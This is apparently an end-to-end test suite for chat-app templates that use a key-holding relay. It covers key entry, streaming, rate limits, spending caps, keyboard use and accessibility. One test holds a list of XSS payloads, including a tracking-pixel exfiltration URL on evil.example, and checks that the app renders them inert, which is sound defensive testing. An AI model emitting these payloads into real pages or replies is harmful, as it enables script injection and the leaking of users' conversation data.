/// <reference lib="dom" />
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { textDeltas } from '@byok/relay/mock-providers'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readTemplates, TEMPLATES_DIR } from '../templates/helpers.js'
import { resolveArtifactPath } from './support/artifacts.js'
import { findSeriousViolations } from './support/axe.js'
import {
  composer,
  connectWithKey,
  keysPanel,
  LAST_REPLY,
  openKeysPanel,
  readAlert,
  readKeyRow,
  sendMessage,
  waitForIdle,
} from './support/chat-page.js'
import { assertChromiumInstalled, isChromiumInstalled, withBrowser } from './support/chromium.js'
import { expectStreamedReply } from './support/expect-streamed.js'
import { keyDialog, submitKey, typeKey, waitForKeyDialog, waitForKeyError } from './support/key-dialog.js'
import { dumpBrowserStorage, readStoredTokens, recordTextChanges, waitForText } from './support/page-watch.js'
import { STREAM, TYPED_KEY } from './support/relay.js'
import { type HeldTempDir, holdTempDir } from './support/temp-dir.js'
import { type ServedTemplate, serveTemplate } from './support/template-app.js'

const REPLY = textDeltas(STREAM.chunks).join('')
/** The key the user pastes after the provider stopped accepting the first one. */
const NEW_KEY = 'sk-proj-ReplacementKey0123456789abc987'
/** Calls to /relay/* one token may make per minute on this suite's relay (the rate-limit test spends them). */
const RELAY_PER_MIN = 12

// A reply a model could be tricked into writing: markdown, and HTML that must never run or render as markup.
const HOSTILE_REPLY = [
  '## Result',
  '',
  'Some **bold** text, a [docs link](https://example.com/docs) and `inline code`.',
  '',
  '```ts',
  'const answer: number = 42 // <b>not bold</b>',
  '```',
  '',
  '- one',
  '- two',
  '',
  '<img src="x" onerror="window.__pwned = 1">',
  '<script>window.__pwned = 2</script>',
  '[click me](javascript:window.__pwned=3)',
  '<a href="javascript:window.__pwned=4">raw link</a>',
  '<iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
  '<svg onload="window.__pwned=6"><circle r="5"/></svg>',
  '<form action="https://evil.example/"><button>Claim prize</button></form>',
  '![tracker](https://evil.example/pixel.png?conversation=secret)',
  '<style>body { display: none }</style>',
  '<div style="position:fixed;inset:0">overlay</div>',
].join('\n')

const only = process.env.BYOK_TEST_TEMPLATES?.split(',').map((s) => s.trim())
const templates = readTemplates().filter((t) => !only || only.includes(t.name))

/** Saves a screenshot under artifacts/templates/<template>/ and returns its path. */
async function screenshot(page: Page, template: string, name: string): Promise<string> {
  const path = resolveArtifactPath(`templates/${template}/${name}.png`)
  await page.screenshot({ path })
  return path
}

async function expectNoSeriousViolations(page: Page, state: string): Promise<void> {
  const violations = await findSeriousViolations(page)
  expect(violations, `axe (${state}): ${JSON.stringify(violations, null, 1)}`).toEqual([])
}

// Each template scaffolded by `byok create`, installed and built as its README says, served on its own origin, in
// front of the real relay (buildApp on loopback) and a mock OpenAI that streams one delta every STREAM.delayMs.
// Every test opens a fresh browser profile: a new visitor with no relay token and no stored key.
describe.each(templates)('the $name template in Chromium', ({ name, env }) => {
  let temp: HeldTempDir | undefined
  let app: ServedTemplate | undefined

  beforeAll(async () => {
    if (!isChromiumInstalled()) return // each test fails with the install hint instead of minutes of setup
    temp = await holdTempDir()
    app = await serveTemplate(name, temp.dir, { relayPerMin: RELAY_PER_MIN })
    writeFileSync(
      resolveArtifactPath(`templates/${name}/bundle-size.json`),
      // Written the way the repo formatter writes JSON, so `biome check .` stays clean after a local run.
      `{ "gzipBytes": ${app.gzipBytes} }\n`,
    )
    console.info(
      `${name} template: install ${app.timings.install?.toFixed(1)}s, typecheck ${app.timings.typecheck?.toFixed(1)}s, build ${app.timings.build?.toFixed(1)}s, ` +
        `JS+CSS ${(app.gzipBytes / 1024).toFixed(1)} kB gzip`,
    )
  })

  afterAll(async () => {
    await app?.close()
    await temp?.release()
  })

  // The README steps themselves (install, typecheck, build) ran in beforeAll; a failing one fails every test here.
  it('is scaffolded by `byok create` from the shared code, with the relay URL in .env, and type-checks', () => {
    assertChromiumInstalled()
    expect(app!.timings.typecheck, 'npm run typecheck ran').toBeGreaterThan(0)
    expect(readFileSync(join(app!.dir, '.env'), 'utf8')).toContain(`${env}="${app!.relay.url}"`)
    expect(readFileSync(join(app!.dir, 'src/lib/session.ts'), 'utf8')).toBe(
      readFileSync(join(TEMPLATES_DIR, 'shared/lib/session.ts'), 'utf8'),
    )
  })

  it('first message → key dialog (malformed, rejected, then a verified key) → streamed reply; keys panel live', async () => {
    assertChromiumInstalled()
    const { openai } = app!.relay
    await withBrowser(async (context) => {
      const page = await context.newPage()
      await page.goto(app!.origin)
      expect((await page.request.get(`${app!.origin}/favicon.ico`)).status(), '/favicon.ico').toBe(200)

      await sendMessage(page, 'Say hello')
      expect(await waitForKeyDialog(page)).toContain('OpenAI')
      const dialog = keyDialog(page)
      expect(await dialog.getByRole('link', { name: /get a key/i }).getAttribute('href')).toBe(
        'https://platform.openai.com/api-keys',
      )
      const where = (await dialog.locator('.key-where').textContent()) ?? ''
      expect(where).toContain(new URL(app!.relay.url).host)
      expect(where).toMatch(/never saved in this browser/)
      expect(
        await page.locator('.messages li[data-role="assistant"]').count(),
        'no empty reply bubble',
      ).toBeLessThanOrEqual(1)

      await typeKey(page, 'sk-123')
      expect(await waitForKeyError(page, /look like an OpenAI key/)).toMatch(/start with “sk-”/)
      const checksBefore = openai.exchanges.length
      await typeKey(page, 'sk-proj-NotTheUsersKey0123456789abcdef')
      expect(await waitForKeyError(page, /rejected/)).toBe(
        'OpenAI rejected this key. Check that it is active and copied completely.',
      )
      const check = openai.exchanges[checksBefore]
      expect(`${check?.request.method} ${check?.request.path} ${check?.response.status}`).toBe(
        'GET /v1/models 401',
      )
      expect(openai.exchanges.filter((e) => e.request.path === '/v1/chat/completions')).toEqual([])

      // The provider cannot be asked right now: the dialog says so and offers to store the key unchecked.
      openai.scriptModelsError(503, 'The server is overloaded.')
      await typeKey(page, TYPED_KEY)
      expect(await waitForKeyError(page, /couldn't be reached/)).toBe(
        "OpenAI couldn't be reached to check this key. Try again in a moment, or save it without checking.",
      )
      expect(await dialog.getByRole('button', { name: 'Save without checking' }).isVisible()).toBe(true)

      await recordTextChanges(page, LAST_REPLY)
      await submitKey(page, TYPED_KEY)
      await waitForText(page, LAST_REPLY, REPLY)
      const chats = openai.exchanges.filter((e) => e.request.path === '/v1/chat/completions')
      await expectStreamedReply(page, REPLY, chats.at(-1))
      // The provider checked each key before the relay kept it; the message went out once, after the good key.
      const calls = openai.exchanges.slice(checksBefore).map((e) => `${e.request.path} ${e.response.status}`)
      expect(calls.slice(0, 3)).toEqual(['/v1/models 401', '/v1/models 503', '/v1/models 200'])
      expect(calls.filter((c) => c.startsWith('/v1/chat'))).toEqual(['/v1/chat/completions 200'])
      await waitForIdle(page)
      // The model picker offers the models this key can use (the mock lists two).
      await page.waitForFunction(() => document.querySelectorAll('#model-options option').length === 2)

      // The keys panel shows the stored key without a Refresh: one ellipsis, the key's last four characters.
      await openKeysPanel(page)
      expect(await readKeyRow(page, 'openai')).toMatch(/^…cdef · added /)
      expect(await readKeyRow(page, 'anthropic')).toBe('No key')
      await page.keyboard.press('Escape')
      await keysPanel(page).waitFor({ state: 'hidden' })

      // The conversation lives in this tab; the key lives on the relay only.
      const storage = await dumpBrowserStorage(context, [page])
      expect(storage.includes(TYPED_KEY), 'browser storage holds the provider key').toBe(false)
      expect(storage).toContain('Say hello')
      await page.reload()
      await waitForText(page, LAST_REPLY, REPLY)
      expect(await readStoredTokens(page)).toHaveLength(1)
      await page.getByRole('button', { name: 'New chat' }).click()
      await page.locator('.messages').waitFor({ state: 'hidden' })
      expect(await page.evaluate(() => JSON.stringify(sessionStorage))).not.toContain('Say hello')
    })
  })

  /**
   * What reached the provider after a key problem: the refused call, the relay's key check (GET /v1/models) and
   * exactly one retry after it. The model picker lists models with the same GET once the key is saved, before or
   * after the retry, so only the order of the check and the retry is fixed.
   */
  function expectOneRetryAfterKeyCheck(calls: string[], refused: number): void {
    expect(calls[0]).toBe(`/v1/chat/completions ${refused}`)
    expect(
      calls.filter((c) => c.startsWith('/v1/chat')),
      'the message was retried exactly once',
    ).toEqual([`/v1/chat/completions ${refused}`, '/v1/chat/completions 200'])
    const check = calls.indexOf('/v1/models 200')
    expect(check, 'the new key was checked').toBeGreaterThan(0)
    expect(check, 'before the retry').toBeLessThan(calls.indexOf('/v1/chat/completions 200'))
  }

  it('a key the provider no longer accepts reopens the dialog; the new key is verified and the message sent once more', async () => {
    assertChromiumInstalled()
    const { openai } = app!.relay
    await withBrowser(async (context) => {
      const page = await context.newPage()
      await page.goto(app!.origin)
      await connectWithKey(page, TYPED_KEY, REPLY)
      try {
        openai.settings.expectedKey = NEW_KEY // the user revoked the first key at OpenAI
        const before = openai.exchanges.length
        await sendMessage(page, 'Are you still there?')
        await waitForKeyDialog(page)
        expect(await keyDialog(page).locator('#key-dialog-lead').textContent()).toMatch(
          /^OpenAI no longer accepts the key you saved/,
        )
        await submitKey(page, NEW_KEY)
        await waitForText(page, LAST_REPLY, REPLY)
        expectOneRetryAfterKeyCheck(
          openai.exchanges.slice(before).map((e) => `${e.request.path} ${e.response.status}`),
          401,
        )
        await waitForIdle(page)
        await openKeysPanel(page)
        expect(await readKeyRow(page, 'openai'), 'the panel shows the new key').toMatch(/^…c987 · added /)
        expect(await page.locator('.notice:visible').count(), 'no error left over').toBe(0)
        await page.keyboard.press('Escape')
        await keysPanel(page).waitFor({ state: 'hidden' })

        // A 403 (a key without access to the project or model) is a key problem too: the same dialog, one retry.
        openai.script({
          status: 403,
          message: 'You do not have access to the organization tied to the API key.',
        })
        const before403 = openai.exchanges.length
        await sendMessage(page, 'And now?')
        await waitForKeyDialog(page)
        await submitKey(page, NEW_KEY)
        await waitForText(page, LAST_REPLY, REPLY)
        expectOneRetryAfterKeyCheck(
          openai.exchanges.slice(before403).map((e) => `${e.request.path} ${e.response.status}`),
          403,
        )
      } finally {
        openai.settings.expectedKey = TYPED_KEY
      }
    })
  })

  it('Stop keeps the partial reply, Retry asks again, and the view follows the stream unless the reader scrolled up', async () => {
    assertChromiumInstalled()
    const { openai } = app!.relay
    await withBrowser(async (context) => {
      const page = await context.newPage()
      await page.setViewportSize({ width: 900, height: 600 })
      await page.goto(app!.origin)
      await connectWithKey(page, TYPED_KEY, REPLY)

      await sendMessage(page, 'Tell me a story')
      await page.locator(LAST_REPLY, { hasText: 'chunk-1' }).waitFor()
      await page.getByRole('button', { name: 'Stop' }).click()
      await waitForIdle(page)
      const partial = (await page.locator(LAST_REPLY).textContent()) ?? ''
      expect(REPLY.startsWith(partial) && partial.length < REPLY.length, `partial reply: ${partial}`).toBe(
        true,
      )
      expect(await page.locator('.messages li[data-role="assistant"]:last-of-type').textContent()).toContain(
        'Stopped',
      )
      await page.locator('.message-meta').getByRole('button', { name: 'Retry' }).click()
      await waitForText(page, LAST_REPLY, REPLY)
      await waitForIdle(page)

      // A long reply: the view stays at the bottom while it streams…
      const long = Array.from({ length: 40 }, (_, i) => `Paragraph ${i + 1} of a long answer.`).join('\n\n')
      const distanceFromBottom = () =>
        page.evaluate(() => {
          const el = document.querySelector('.thread')!
          return el.scrollHeight - el.scrollTop - el.clientHeight
        })
      openai.script({ reply: long, chunks: 10 })
      await sendMessage(page, 'Something long, please')
      await page.locator(LAST_REPLY, { hasText: 'Paragraph 20' }).waitFor()
      expect(await distanceFromBottom()).toBeLessThan(48)
      await waitForIdle(page)
      expect(await distanceFromBottom()).toBeLessThan(48)
      // …and once the reader scrolls up, the next reply does not pull them down.
      openai.script({ reply: long, chunks: 10 })
      await sendMessage(page, 'Again, please')
      await page.locator('.thread').evaluate((el) => {
        el.scrollTop = 0
      })
      await waitForIdle(page)
      expect(await page.locator('.thread').evaluate((el) => el.scrollTop)).toBe(0)
    })
  })

  it('relay unreachable: a sentence naming `npx byok dev`, no empty bubble, and Retry works once it is back', async () => {
    assertChromiumInstalled()
    await withBrowser(async (context) => {
      const page = await context.newPage()
      await page.goto(app!.origin)
      await connectWithKey(page, TYPED_KEY, REPLY)
      const relayCalls = `${app!.relay.url}/**`
      await page.route(relayCalls, (route) => route.abort('connectionrefused'))
      await sendMessage(page, 'Still there?')
      const text = await readAlert(page)
      expect(text).toContain(`Can't reach the relay at ${app!.relay.url}`)
      expect(text).toContain('npx byok dev')
      expect(
        await page.locator('.messages li[data-role="assistant"]').count(),
        'the failed reply left no bubble',
      ).toBe(1)
      await page.unroute(relayCalls)
      await page.locator('.notice').getByRole('button', { name: 'Retry' }).click()
      await page.locator('.messages li[data-role="assistant"]').nth(1).waitFor()
      await waitForText(page, LAST_REPLY, REPLY)
      expect(await page.locator('.notice:visible').count()).toBe(0)
    })
  })

  it('rate limits: the provider’s (its message, when to retry) and the relay’s (which limit, when it resets)', async () => {
    assertChromiumInstalled()
    const { openai, url } = app!.relay
    await withBrowser(async (context) => {
      const page = await context.newPage()
      await page.goto(app!.origin)
      await connectWithKey(page, TYPED_KEY, REPLY)

      openai.script({
        status: 429,
        message:
          'Rate limit reached for gpt-4o-mini on requests per min (RPM): Limit 3, Used 3, Requested 1.',
        headers: { 'retry-after': '20' },
      })
      await sendMessage(page, 'One more')
      expect(await readAlert(page)).toBe(
        'OpenAI is rate limiting your key: Rate limit reached for gpt-4o-mini on requests per min (RPM): Limit 3, Used 3, Requested 1. Try again in 20 s, then retry.',
      )

      // Spend the rest of this token's relay quota from outside the page, then send from the page.
      const [token] = await readStoredTokens(page)
      for (let i = 0; i < RELAY_PER_MIN; i++) {
        const spent = await fetch(`${url}/relay/openai/v1/models`, { headers: { 'x-relay-token': token! } })
        await spent.body?.cancel()
        if (spent.status === 429) break
      }
      await sendMessage(page, 'And another')
      await page.locator('.notice p').filter({ hasText: 'relay allows' }).waitFor()
      expect(await readAlert(page)).toMatch(
        new RegExp(
          `^Too many requests: the relay allows ${RELAY_PER_MIN} requests per minute; try again in \\d+ s\\.$`,
        ),
      )
    })
  })

  it('keys panel, this month: the usage the provider reported, a cap set there refuses the next call (budget_exceeded, with the reset), removing it lets calls through', async () => {
    assertChromiumInstalled()
    const { openai, url } = app!.relay
    await withBrowser(async (context) => {
      const page = await context.newPage()
      await page.goto(app!.origin)
      await connectWithKey(page, TYPED_KEY, REPLY)
      const reported = openai.exchanges.findLast((e) => e.request.path === '/v1/chat/completions')!.response
        .usage!
      expect(reported.inputTokens + reported.outputTokens).toBeGreaterThan(0)
      const panel = await openKeysPanel(page)
      const usageText = (role: string, pattern: RegExp) =>
        panel.locator(`[data-role="${role}"]`).filter({ hasText: pattern }).textContent()
      expect(await usageText('usage', /token/)).toMatch(
        new RegExp(
          `^\\d+ requests? · ${reported.inputTokens + reported.outputTokens} tokens · under \\$0\\.01$`,
        ),
      )
      expect(await usageText('usage-cap', /cap/)).toBe('No monthly cap.')

      // A failure is one sentence under the form; the cap is unchanged.
      const cap = panel.getByLabel('Monthly cap (requests)')
      await page.route(`${url}/budgets`, (route) => route.abort('connectionrefused'))
      await cap.fill('1')
      await panel.getByRole('button', { name: 'Save cap' }).click()
      expect(await usageText('usage-error', /./)).toMatch(/^Couldn't save the cap\. /)
      await page.unroute(`${url}/budgets`)

      await panel.getByRole('button', { name: 'Save cap' }).click()
      const now = new Date()
      const reset = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() + 1, 1))
      const resetDay = reset.toLocaleDateString('en-US', { month: 'short', day: 'numeric', timeZone: 'UTC' })
      expect(await usageText('usage-cap', /^0 of 1 request/)).toBe(`0 of 1 request used; resets ${resetDay}.`)
      expect(await panel.locator('[data-role="usage-error"]').textContent()).toBe('')
      await page.keyboard.press('Escape')

      // Short replies from here on: the streaming itself was checked above.
      openai.script({ reply: 'Within.', chunks: 1 })
      await sendMessage(page, 'Within the cap')
      await waitForText(page, LAST_REPLY, 'Within.')
      await waitForIdle(page)
      const chats = () => openai.exchanges.filter((e) => e.request.path === '/v1/chat/completions').length
      const forwarded = chats()
      await sendMessage(page, 'Beyond the cap')
      expect(await readAlert(page)).toBe(
        `Your spending cap is used up (1 of 1 requests per month for all providers). It resets on ${resetDay}, ` +
          '12:00 AM UTC. Raise or remove the cap under Keys to continue now.',
      )
      expect(chats(), 'the refused call never reached the provider').toBe(forwarded)

      await openKeysPanel(page)
      // The panel reloads its figures each time it opens.
      expect(await usageText('usage-cap', /^1 of 1 request/)).toBe(`1 of 1 request used; resets ${resetDay}.`)
      await panel.getByRole('button', { name: 'Remove cap' }).click()
      expect(await usageText('usage-cap', /No monthly cap/)).toBe('No monthly cap.')
      await page.keyboard.press('Escape')
      openai.script({ reply: 'Through.', chunks: 1 })
      await page.locator('.notice').getByRole('button', { name: 'Retry' }).click()
      await waitForText(page, LAST_REPLY, 'Through.')
      expect(chats()).toBe(forwarded + 1)
    })
  })

  it('renders markdown with code blocks and keeps hostile HTML from the model inert', async () => {
    assertChromiumInstalled()
    const { openai } = app!.relay
    await withBrowser(async (context) => {
      const page = await context.newPage()
      await page.goto(app!.origin)
      await connectWithKey(page, TYPED_KEY, REPLY)
      openai.script({ reply: HOSTILE_REPLY, chunks: 8 })
      await sendMessage(page, 'Show me some markdown')
      const reply = page.locator(LAST_REPLY)
      await reply.locator('ul li', { hasText: 'two' }).waitFor()
      await waitForIdle(page)

      expect(await reply.locator('h2').textContent()).toBe('Result')
      expect(await reply.locator('strong').first().textContent()).toBe('bold')
      const link = reply.getByRole('link', { name: 'docs link' })
      expect(await link.getAttribute('href')).toBe('https://example.com/docs')
      expect(await link.getAttribute('rel')).toContain('noopener')
      expect(await reply.locator('pre code.language-ts').textContent()).toBe(
        'const answer: number = 42 // <b>not bold</b>',
      )
      expect(await reply.locator('.code-block').getByRole('button', { name: 'Copy' }).count()).toBe(1)

      const inert = await page.evaluate((selector) => {
        const root = document.querySelector(selector)!
        const all = [...root.querySelectorAll('*')]
        return {
          pwned: (window as { __pwned?: unknown }).__pwned ?? null,
          forbidden: all.filter((el) => /^(SCRIPT|IMG|IFRAME|SVG|FORM|STYLE|OBJECT|EMBED)$/i.test(el.tagName))
            .length,
          handlers: all.filter((el) =>
            [...el.attributes].some((a) => a.name.startsWith('on') || a.name === 'style'),
          ).length,
          scriptLinks: [...root.querySelectorAll('a')].filter(
            (a) => !/^https?:/.test(a.getAttribute('href') ?? 'https:'),
          ).length,
          text: root.textContent ?? '',
          bodyVisible: getComputedStyle(document.body).display !== 'none',
        }
      }, LAST_REPLY)
      expect(inert).toMatchObject({
        pwned: null,
        forbidden: 0,
        handlers: 0,
        scriptLinks: 0,
        bodyVisible: true,
      })
      // Raw HTML is shown as text, not dropped silently, so the user sees what the model wrote.
      expect(inert.text).toContain('<script>window.__pwned = 2</script>')
      expect(
        openai.exchanges.some((e) => e.request.url.includes('pixel')),
        'no tracker image was fetched',
      ).toBe(false)
      await page.waitForTimeout(300) // any onerror/onload would have fired by now
      expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned ?? null)).toBeNull()

      // A provider error reads as a sentence with the provider's own words, never as JSON.
      openai.script({
        status: 404,
        message: 'The model `gpt-4o-mini` does not exist or you do not have access to it.',
      })
      await sendMessage(page, 'Once more')
      const text = await readAlert(page)
      expect(text).toBe(
        'OpenAI said: The model `gpt-4o-mini` does not exist or you do not have access to it. Check the model name (gpt-4o-mini) and retry.',
      )
    })
  })

  it('works with the keyboard alone: Tab, Enter to send, Shift+Enter for a newline, the dialogs, Escape', async () => {
    assertChromiumInstalled()
    await withBrowser(async (context) => {
      const page = await context.newPage()
      await page.goto(app!.origin)
      const focused = () =>
        page.evaluate(() => {
          const el = document.activeElement as HTMLElement | null
          const style = el ? getComputedStyle(el) : null
          return {
            label: el?.getAttribute('aria-label') ?? el?.textContent?.trim() ?? '',
            tag: el?.tagName ?? '',
            outline: style ? style.outlineStyle !== 'none' && style.outlineWidth !== '0px' : false,
          }
        })

      // Tab from the top of the page reaches the composer, and every stop on the way shows where focus is.
      const stops: string[] = []
      for (let i = 0; i < 20 && (await focused()).label !== 'Message'; i++) {
        await page.keyboard.press('Tab')
        const now = await focused()
        stops.push(now.label)
        if (now.tag === 'BUTTON') expect(now.outline, `visible focus on "${now.label}"`).toBe(true)
      }
      expect(stops).toContain('Message')
      await page.keyboard.type('line one')
      await page.keyboard.press('Shift+Enter')
      await page.keyboard.type('line two')
      expect(await composer(page).inputValue()).toBe('line one\nline two')
      await page.keyboard.press('Enter')

      await waitForKeyDialog(page)
      expect((await focused()).tag, 'focus moves into the key dialog').toBe('INPUT')
      await page.keyboard.type(TYPED_KEY)
      await page.keyboard.press('Enter')
      await keyDialog(page).waitFor({ state: 'hidden' })
      await waitForText(page, LAST_REPLY, REPLY)
      await waitForIdle(page)
      expect(await page.locator('.messages li[data-role="user"]').textContent()).toBe('line one\nline two')

      // Keys panel: reach it with Tab, delete the key with Enter, close with Escape.
      for (let i = 0; i < 20 && (await focused()).label !== 'Keys'; i++)
        await page.keyboard.press('Shift+Tab')
      expect((await focused()).label).toBe('Keys')
      await page.keyboard.press('Enter')
      await keysPanel(page).waitFor({ state: 'visible' })
      for (let i = 0; i < 10 && (await focused()).label !== 'Delete OpenAI key'; i++)
        await page.keyboard.press('Tab')
      expect((await focused()).label).toBe('Delete OpenAI key')
      await page.keyboard.press('Enter')
      await keysPanel(page).locator('.key-row[data-provider="openai"]', { hasText: 'No key' }).waitFor()
      await page.keyboard.press('Escape')
      await keysPanel(page).waitFor({ state: 'hidden' })
      expect((await focused()).label, 'focus returns to the Keys button').toBe('Keys')
    })
  })

  it('screenshots (light, dark, 390 px) of a real conversation, and no serious axe violations in any state', async () => {
    assertChromiumInstalled()
    const { openai } = app!.relay
    await withBrowser(async (context) => {
      const page = await context.newPage()
      await page.setViewportSize({ width: 1200, height: 860 })
      await page.goto(app!.origin)
      await page.locator('.empty').waitFor()
      await expectNoSeriousViolations(page, 'empty chat, light')
      await screenshot(page, name, 'empty-light')

      await sendMessage(page, 'How do I stream a reply with fetch?')
      await waitForKeyDialog(page)
      await typeKey(page, 'sk-123')
      await waitForKeyError(page, /look like/)
      await expectNoSeriousViolations(page, 'key dialog with an error, light')
      await screenshot(page, name, 'key-dialog-light')
      openai.script({
        reply: [
          'Use `fetch` and read the body as a stream:',
          '',
          '```ts',
          "const res = await fetch('/api/chat', { method: 'POST', body })",
          'const reader = res.body!.getReader()',
          'for (;;) {',
          '  const { value, done } = await reader.read()',
          '  if (done) break',
          '  output += new TextDecoder().decode(value)',
          '}',
          '```',
          '',
          'A few things to keep in mind:',
          '',
          '1. **Abort** with an `AbortController` when the user presses Stop.',
          '2. Parse server-sent events line by line.',
          '3. Keep the key on the server — here, the byok relay.',
        ].join('\n'),
      })
      await submitKey(page, TYPED_KEY)
      await page.locator(`${LAST_REPLY} ol li`).nth(2).waitFor()
      await waitForIdle(page)
      await sendMessage(page, 'Thanks! Can you keep it shorter next time?')
      await waitForText(page, LAST_REPLY, REPLY)
      await waitForIdle(page)

      await expectNoSeriousViolations(page, 'conversation, light')
      console.info(`screenshot: ${await screenshot(page, name, 'chat-light')}`)
      await openKeysPanel(page)
      await expectNoSeriousViolations(page, 'keys panel, light')
      await screenshot(page, name, 'keys-light')
      await page.keyboard.press('Escape')

      await page.emulateMedia({ colorScheme: 'dark' })
      await expectNoSeriousViolations(page, 'conversation, dark')
      await screenshot(page, name, 'chat-dark')
      await openKeysPanel(page)
      await expectNoSeriousViolations(page, 'keys panel, dark')
      await screenshot(page, name, 'keys-dark')
      await page.keyboard.press('Escape')

      await page.emulateMedia({ colorScheme: 'light' })
      await page.setViewportSize({ width: 390, height: 844 })
      await expectNoSeriousViolations(page, 'conversation, 390 px')
      await screenshot(page, name, 'chat-mobile')
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
      expect(overflow, 'no horizontal scrolling at 390 px').toBeLessThanOrEqual(0)
      await page.setViewportSize({ width: 360, height: 740 })
      expect(
        await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth),
      ).toBeLessThanOrEqual(0)
    })
  })
})
